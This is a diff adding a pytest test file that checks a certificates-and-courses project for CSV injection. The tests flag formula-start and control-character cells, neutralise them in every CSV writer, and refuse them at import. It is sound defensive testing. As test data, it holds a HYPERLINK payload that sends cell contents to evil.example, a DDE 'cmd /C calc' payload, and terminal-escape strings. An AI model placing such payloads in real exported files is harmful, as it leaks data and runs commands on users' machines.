@@ -1,0 +1,202 @@
+"""CSV injection (OWASP; issue 15): a text cell of any public table that begins with =, +, -, @, a tab or a
+carriage return is a finding (`csv-formula`), a control character is one (`csv-control-character`), a
+signed number in a number column is not; and every CSV ustaz writes neutralises such a cell."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import json
+from pathlib import Path
+
+import pytest
+from conftest import run_ustaz
+
+from ustaz.calendar import valid_until
+from ustaz.certificates import codes
+from ustaz.certificates.register import Certificate, Status
+from ustaz.certificates.writer import append
+from ustaz.checks import Context
+from ustaz.checks.table_cells import CSV_CONTROL, CSV_FORMULA, table_cells
+from ustaz.project import Project
+from ustaz.writefile import FORMULA_START, neutralise
+
+TODAY = dt.date(2026, 11, 23)
+PAYLOADS = [start + 'HYPERLINK("http://evil.example/?x="&A1,"x")' for start in FORMULA_START]
+
+
+def _with_register_row(project: Path) -> None:
+    issued = dt.date(2026, 10, 23)
+    code = codes.new_code()
+    append(project, [Certificate(code=code, shown_code=codes.display(code), program="robotics-basics",
+                                 cohort="2026-rb-kk-01", holder="Тестова Айгерим", hours=80,
+                                 course_ended=dt.date(2026, 10, 20), issued=issued,
+                                 valid_until=valid_until(issued, 3), status=Status.ISSUED)])
+
+
+def _tables(project: Path) -> dict[str, dict[str, str]]:
+    """Every public table and its columns' types (Table Schema; the register's too)."""
+    package = json.loads((project / "data/datapackage.json").read_text(encoding="utf-8"))
+    out = {}
+    for res in package["resources"]:
+        schema = json.loads((project / "data" / res["schema"]).read_text(encoding="utf-8"))
+        for path in [res["path"]] if isinstance(res["path"], str) else res["path"]:
+            out[f"data/{path}"] = {f["name"]: f.get("type", "string") for f in schema["fields"]}
+    return out
+
+
+def _set_cell(path: Path, column: str, value: str) -> int:
+    """Put `value` into `column` of the table's first data row; the row's line."""
+    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
+    rows[1][rows[0].index(column)] = value
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerows(rows)
+    path.write_text(out.getvalue(), encoding="utf-8")
+    return 2
+
+
+def _findings(project: Path) -> set[tuple[str, int | None, str]]:
+    ctx = Context(project=Project.load(project, project / "examples/private"), today=TODAY)
+    return {(f.path, f.line, f.code) for f in table_cells(ctx)}
+
+
+def test_the_shipped_tables_hold_no_formula_or_control_character(project: Path) -> None:
+    _with_register_row(project)
+    assert _findings(project) == set()
+
+
+def test_every_text_cell_of_every_public_table_is_held_to_the_rule(project: Path) -> None:
+    """Each table, each column: a formula in a text column is a finding at its line; a signed number in a
+    number column is none (it is the number it says)."""
+    _with_register_row(project)
+    tables = _tables(project)
+    assert {"data/certificates/2026.csv", "data/schedule/2026.csv", "data/organizations.csv", "data/trainers.csv",
+            "data/networks/research.csv"} <= set(tables)
+    tried = 0
+    for table, columns in tables.items():
+        path = project / table
+        original = path.read_text(encoding="utf-8")
+        for column, type_ in columns.items():
+            if type_ in ("string", "any"):
+                # (a NUL makes any other table unreadable text, the file check's finding; the register is
+                # read as columns, so there it is this check's)
+                control = "x\x00y" if "certificates" in table else "x\x1b[2Jy\u202e"
+                for payload in (PAYLOADS[tried % len(PAYLOADS)], "-1", control):
+                    line = _set_cell(path, column, payload)
+                    code = CSV_FORMULA if payload[0] in FORMULA_START else CSV_CONTROL
+                    assert (table, line, code) in _findings(project), (table, column, payload)
+                    tried += 1
+            elif type_ in ("integer", "number"):
+                _set_cell(path, column, "-5")
+                assert not {f for f in _findings(project) if f[2] == CSV_FORMULA}, (table, column)
+            path.write_text(original, encoding="utf-8")
+    assert tried > 30
+
+
+def test_a_table_without_a_schema_keeps_numbers_and_flags_formulas(project: Path) -> None:
+    extra = project / "data/networks/extra.csv"
+    extra.write_text("id,value,note\nrow,-5,+7.5\nrow2,@SUM(A1),ok\n", encoding="utf-8")
+    assert _findings(project) == {("data/networks/extra.csv", 3, CSV_FORMULA)}
+
+
+def test_the_check_reports_through_the_cli(project: Path) -> None:
+    _set_cell(project / "data/organizations.csv", "name_ru", '=HYPERLINK("http://x","y")')
+    r = run_ustaz("check", "--today", TODAY.isoformat(), "data", cwd=project)
+    assert r.returncode == 1 and "data/organizations.csv:2: error csv-formula: 'name_ru' begins with '='" in r.stdout
+
+
+@pytest.mark.parametrize("value", [*PAYLOADS, "-", "+7 701 123 45 67", "-2+3"])
+def test_neutralise_makes_every_formula_text(value: str) -> None:
+    assert neutralise(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Иванов", "-5", "+7.5", "12", "", 5, -5.0, None])
+def test_neutralise_keeps_text_and_numbers(value: object) -> None:
+    assert neutralise(value) == value
+
+
+EVIL = '=HYPERLINK("http://evil.example","x")'
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+def test_every_csv_writer_neutralises_a_formula() -> None:
+    """The CSV writers of ustaz (writefile.csv_text under all of them): a formula cell is written as text."""
+    from ustaz.cli.monitoring import sample_csv
+    from ustaz.courses.table import to_csv
+    from ustaz.monitoring.population import Stratum
+    from ustaz.monitoring.sample import Sample, SampledTeacher
+    from ustaz.support.reports import report_row
+
+    stratum = Stratum(region="KZ-71", direction="@direction", locality="urban")
+    outputs = {
+        "courses.table.to_csv": to_csv(("a", "b"), [{"a": EVIL, "b": -5}]),
+        "support.reports.report_row": report_row("org", 2026, "1", TODAY, None, 3, EVIL),
+        "monitoring.sample_csv": sample_csv(Sample(seed=1, size=1, strata=(), drawn=(
+            SampledTeacher(teacher=EVIL, replacement="+cmd|' /C calc'!A0", stratum=stratum),))),
+    }
+    for name, text in outputs.items():
+        cells = _cells(text)
+        assert all(neutralise(c) == c for c in cells), (name, cells)  # nothing a spreadsheet would run
+        assert f"'{EVIL}" in cells, name
+
+
+def test_the_register_writer_refuses_a_formula_reason(project: Path) -> None:
+    _with_register_row(project)
+    path = project / "data/certificates/2026.csv"
+    before = path.read_bytes()
+    code = next(r[0] for r in csv.reader(io.StringIO(before.decode(), newline="")) if r[0] != "code")
+    for reason in (EVIL, "ok\x1b[2J"):
+        r = run_ustaz("register", "revoke", code, "--reason", reason, "--date", "2026-11-01", cwd=project)
+        assert r.returncode == 2 and "formula" in r.stderr and "Traceback" not in r.stderr, r
+    assert path.read_bytes() == before
+
+
+def test_course_import_refuses_formula_names_as_findings(project: Path, tmp_path: Path) -> None:
+    """A department's list with formula names (text cells in the workbook): each such row is a finding and
+    is not imported; the other rows are."""
+    from openpyxl import Workbook
+
+    from ustaz.ids import make_iin
+
+    wb = Workbook()
+    ws = wb.active
+    ws.append(["Тегі", "Аты", "ЖСН", "Жұмыс орны"])
+    names = [(EVIL, "Айжан"), ("Бірінші", "@SUM(A1)"), ("Екінші", "Болат"), ("-2+3", "Ерлан"),
+             ("Үшінші", "Гүл\u202eнар")]
+    for i, (surname, name) in enumerate(names):
+        ws.append([surname, name, make_iin(f"9001014{i:04d}"), "мектеп"])
+    for row in ws.iter_rows(min_row=2):
+        for cell in row[:2]:
+            cell.data_type = "s"  # text that begins with '=': what a list pasted as text holds
+    xlsx = tmp_path / "list.xlsx"
+    wb.save(xlsx)
+    listeners = project / "examples/private/cohorts/2026-rb-ru-01/listeners.csv"
+    r = run_ustaz("course", "import", "2026-rb-ru-01", str(xlsx), cwd=project)
+    assert r.returncode == 1, r.stderr
+    flagged = {int(line.split(":")[1]) for line in r.stderr.splitlines() if " error import-formula: " in line}
+    assert flagged == {2, 3, 5, 6}, r.stderr
+    assert "added 1 listener(s)" in r.stderr
+    written = listeners.read_text(encoding="utf-8")
+    assert "Екінші" in written and not any(n in written for pair in names if pair[0] != "Екінші" for n in pair)
+
+
+def test_the_check_reads_no_file_outside_data_nor_a_device(project: Path, tmp_path: Path) -> None:
+    """A hostile data package (a schema path leading out, a schema linked to /dev/zero) and a table linked to
+    a file outside: the check answers at once and reads none of them."""
+    import time
+
+    outside = tmp_path / "outside.csv"
+    outside.write_text("id,name\nx,=HYPERLINK(1)\n", encoding="utf-8")
+    (project / "data/networks/linked.csv").symlink_to(outside)
+    (project / "data/schemas/zero.json").symlink_to("/dev/zero")
+    package = json.loads((project / "data/datapackage.json").read_text(encoding="utf-8"))
+    package["resources"][0]["schema"] = "schemas/zero.json"
+    package["resources"][1]["schema"] = "../../" + str(outside)
+    (project / "data/datapackage.json").write_text(json.dumps(package), encoding="utf-8")
+    started = time.monotonic()
+    assert _findings(project) == set()
+    assert time.monotonic() - started < 10
